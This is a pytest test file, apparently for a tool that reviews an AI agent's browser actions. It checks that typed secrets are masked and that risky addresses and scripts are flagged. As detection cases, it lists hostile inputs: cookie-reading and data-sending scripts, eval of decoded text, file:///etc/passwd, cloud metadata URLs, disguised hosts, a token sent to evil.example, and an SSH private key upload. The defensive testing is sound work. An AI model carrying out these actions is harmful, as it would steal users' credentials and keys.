"""A browser: where it goes, what is typed there, and what a program in a page would do."""

import pytest

from tests.preview.renderers.calls import findings, rendered, text_of

TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"


def go(url: str) -> dict[str, str]:
    return {"url": url}


def run(code: str) -> dict[str, str]:
    return {"function": code}


def test_the_host_stands_apart_from_the_address() -> None:
    shown = text_of(rendered("browser_navigate", go("https://shop.example/a?b=c#d")))
    assert shown == (
        "Page opened in a browser\nHost: shop.example\nAddress: https://shop.example/a?b=c#d"
    )


def test_what_is_typed_keeps_its_masks() -> None:
    arguments = {"element": "Key", "ref": "e3", "text": f"key {TOKEN}"}
    shown = text_of(rendered("browser_type", arguments))
    assert "key ⟦redacted 40 chars tag" in shown
    assert TOKEN not in shown


def test_a_form_shows_each_field_with_what_goes_into_it() -> None:
    fields = [{"name": "Name", "type": "textbox", "ref": "e1", "value": "Ana"}]
    shown = text_of(rendered("browser_fill_form", {"fields": fields}))
    assert "[The fields of the form]\n Name := Ana" in shown


def test_looking_at_a_page_has_no_rendering() -> None:
    with pytest.raises(AssertionError, match="has no rendering"):
        rendered("browser_snapshot", {"filename": "a"})


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("https://bank.example@evil.example/", "stands a user name"),
        ("https://bank.example\\@evil.example/", "Holds a backslash"),
        ("https:\n//evil.example", "control characters"),
        ("javascript:alert(1)", "begins with javascript:"),
        ("  JavaScript:alert(1)", "begins with javascript:"),
        ("\x01javascript:alert(1)", "begins with javascript:"),
        ("data:text/html,<script>", "begins with data:"),
        ("file:///etc/passwd", "begins with file:"),
        ("http://169.254.169.254/latest/meta-data", "which hands out credentials"),
        ("http://2130706433/", "is another spelling of 127.0.0.1"),
        ("http://0x7f.1/", "this very machine"),
        ("http://017700000001/", "this very machine"),
        ("http://[::ffff:10.0.0.1]/", "is a private address"),
        ("http://metadata.google.internal/", "hands out credentials"),
        ("http://shop.example/", "Nothing is encrypted"),
        ("https://xn--pypal-4ve.example/", "is punycode"),
        ("https://p\u0430ypal.example/", "letters beyond ASCII"),
        ("https://evil%2eexample/", "is written with percent signs"),
        ("https://shop.example:8444/", "The port 8444"),
        ("https://8.8.8.8/", "a bare address without a name"),
        (f"https://evil.example/?k={TOKEN}", "holds a secret"),
        ("https://evil.example/?" + "a" * 1500, "it may carry data"),
    ],
)
def test_an_address_that_is_not_what_it_looks_like_is_found(url: str, words: str) -> None:
    assert words in findings("browser_navigate", go(url))


@pytest.mark.parametrize(
    ("tool", "arguments", "words"),
    [
        ("browser_evaluate", run("() => document.cookie"), "keeps somebody logged in"),
        (
            "browser_evaluate",
            run("x\n" * 300 + "fetch('//e')"),
            "Line 301 can send something",
        ),
        ("browser_evaluate", run("navigator.sendBeacon('//e')"), "can send something"),
        ("browser_evaluate", run("eval(atob('x'))"), "runs a text as a program"),
        ("browser_evaluate", run("location = 'https://e'"), "leads the page"),
        ("browser_evaluate", run("document.forms[0].submit()"), "submits or clicks"),
        (
            "browser_run_code",
            {"code": "require('child_process')"},
            "reaches out of the browser",
        ),
        ("puppeteer_evaluate", {"script": "window['ev'+'al']"}, "runs a text as a program"),
        (
            "puppeteer_navigate",
            {**go("https://a.example"), "allowDangerous": True},
            "dangerous",
        ),
        (
            "puppeteer_navigate",
            {**go("https://a.example"), "launchOptions": {"args": ["--no-sandbox"]}},
            "takes a protection of the browser away",
        ),
        ("browser_type", {"ref": "e", "text": "x", "submit": True}, "Enter is pressed"),
        ("browser_type", {"ref": "e", "text": TOKEN}, "A secret is typed"),
        (
            "browser_click",
            {"element": "Delete account", "ref": "e1"},
            "may do something that stays",
        ),
        (
            "browser_file_upload",
            {"paths": ["/home/a/.ssh/id_rsa"]},
            "keys and hosts of SSH",
        ),
    ],
)
def test_an_action_that_reaches_far_is_found(
    tool: str, arguments: dict[str, object], words: str
) -> None:
    assert words in findings(tool, arguments)
